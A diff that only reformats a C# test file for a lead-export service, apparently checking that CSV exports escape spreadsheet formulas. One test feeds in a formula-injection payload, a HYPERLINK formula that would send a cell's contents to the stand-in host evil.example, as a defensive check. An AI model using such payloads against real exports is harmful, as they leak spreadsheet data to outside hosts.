@@ -9,8 +9,8 @@ public sealed class RunExportTests
 {
     private static readonly string[] OfLead =
     [
-        "leadId", "receivedAt", "source", "event", "status", "isTest", "doNotContact", "firstName", "lastName", "email", "phone", "company", "title", "country",
-        "offerTitle", "actionCode", "leadSource", "description",
+        "leadId", "receivedAt", "source", "event", "status", "isTest", "doNotContact", "firstName", "lastName", "email", "phone", "company",
+        "title", "country", "offerTitle", "actionCode", "leadSource", "description",
     ];
 
     [Fact]
@@ -34,8 +34,28 @@ public sealed class RunExportTests
 
         Assert.Equal(
             [
-                lead.ToString(), "2026-11-21T09:00:00.000Z", "marketplace", "", "delivered", "false", "false", "Some", "One", "someone@contoso.com", "16175555555", "Contoso",
-                "Esquire", "USA", "Test Microsoft", "INS", "AzureMarketplace", "Test run through Power Automate", "delivered", "", "delivered", "",
+                lead.ToString(),
+                "2026-11-21T09:00:00.000Z",
+                "marketplace",
+                "",
+                "delivered",
+                "false",
+                "false",
+                "Some",
+                "One",
+                "someone@contoso.com",
+                "16175555555",
+                "Contoso",
+                "Esquire",
+                "USA",
+                "Test Microsoft",
+                "INS",
+                "AzureMarketplace",
+                "Test run through Power Automate",
+                "delivered",
+                "",
+                "delivered",
+                "",
             ],
             row);
     }
@@ -49,7 +69,9 @@ public sealed class RunExportTests
         await app.Store.KeepAsync(due, "crm");
         Assert.True(await app.Store.DeadLetterAsync(await app.Store.TakeOneAsync(due), due, "=a reason, with a comma"));
 
-        Assert.Equal(["dead_letter", "'=a reason, with a comma", "", ""], (await app.ExportAsync("?format=csv&status=dead_letter"))[1][^4..]);
+        Assert.Equal(
+            ["dead_letter", "'=a reason, with a comma", "", ""],
+            (await app.ExportAsync("?format=csv&status=dead_letter"))[1][^4..]);
     }
 
     [Fact]
@@ -57,7 +79,19 @@ public sealed class RunExportTests
     {
         await using var app = await LeadApp.StartAsync();
         const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
-        await app.AcceptAsync(JsonSerializer.Serialize(new { OfferTitle = Formula, Description = "line 1\r\n=line 2; \"quoted\"", UserDetails = new { Phone = "+1 617 555", Company = " @x", Email = "a@contoso.com" } }));
+        await app.AcceptAsync(
+            JsonSerializer.Serialize(
+                new
+                {
+                    OfferTitle = Formula,
+                    Description = "line 1\r\n=line 2; \"quoted\"",
+                    UserDetails = new
+                    {
+                        Phone = "+1 617 555",
+                        Company = " @x",
+                        Email = "a@contoso.com",
+                    },
+                }));
 
         var row = (await app.ExportAsync())[1];
 
@@ -71,13 +105,16 @@ public sealed class RunExportTests
     public async Task Everything_that_matches_is_exported_however_many_pages_it_takes()
     {
         await using var app = await LeadApp.StartAsync();
-        var leads = await Task.WhenAll(Enumerable.Range(0, 230).Select(number => app.KeepAsync($$"""{"OfferTitle":"Offer {{number % 2}}"}""", Posted.At, "erp")));
+        var leads = await Task.WhenAll(
+            Enumerable.Range(0, 230).Select(number => app.KeepAsync($$"""{"OfferTitle":"Offer {{number % 2}}"}""", Posted.At, "erp")));
 
         var rows = await app.ExportAsync("?format=csv&text=offer%201&take=3");
 
         Assert.Equal(115, rows.Count - 1);
         Assert.Empty(rows.Skip(1).Select(row => Guid.Parse(row[0])).Except(leads.Select(lead => lead.Id.Value)));
-        Assert.Equal(rows.Skip(1).Select(row => row[0]).Distinct().OrderDescending(StringComparer.Ordinal), rows.Skip(1).Select(row => row[0]));
+        Assert.Equal(
+            rows.Skip(1).Select(row => row[0]).Distinct().OrderDescending(StringComparer.Ordinal),
+            rows.Skip(1).Select(row => row[0]));
     }
 
     [Fact]
